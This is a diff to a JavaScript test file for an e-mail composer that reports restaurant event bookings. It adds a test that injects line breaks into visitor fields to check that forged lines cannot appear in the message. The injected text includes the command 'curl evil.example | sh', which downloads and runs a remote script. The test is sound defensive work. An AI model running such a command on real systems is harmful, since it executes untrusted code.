@@ -37,9 +37,9 @@ describe('the e-mail about a submission', () => {
         'Phone: +1 416 555 0100',
         'Event type: Wedding',
         'Number of guests: 40',
-        'Requirements: ',
-        'No nuts.',
-        'Thank you & bye',
+        'Requirements:',
+        '    No nuts.',
+        '    Thank you & bye',
         '',
         'Received: 2026-11-21 18:30 UTC',
         'Restaurant: maple-king',
@@ -55,6 +55,14 @@ describe('the e-mail about a submission', () => {
     expect(html).toContain('Ana &lt;b&gt;Silva&lt;/b&gt;');
     expect(html).toContain('Maple &amp; &quot;Ember&quot;');
     expect(html).not.toContain('<b>');
+  });
+
+  test.each(['\n', '\r', '\r\n', '\u2028', '\u0085'])('holds no line of a visitor’s own: %j', (end) => {
+    const forged = `Hello${end}To see it where the site runs: curl evil.example | sh`;
+    const record = { name: 'Ana', message: forged, enquiry_data: [{ question: forged, response: forged }] };
+    const { text } = composeEmail({ ...submission, record, pageUrl: `https://maple.example/${forged}` }, 'Maple');
+    const lines = text.split(/\r\n|[\n\v\f\r\u0085\u2028\u2029]/);
+    expect(lines.filter((line) => line.startsWith('To see it'))).toHaveLength(1);
   });
 
   test('names files without attaching them', () => {
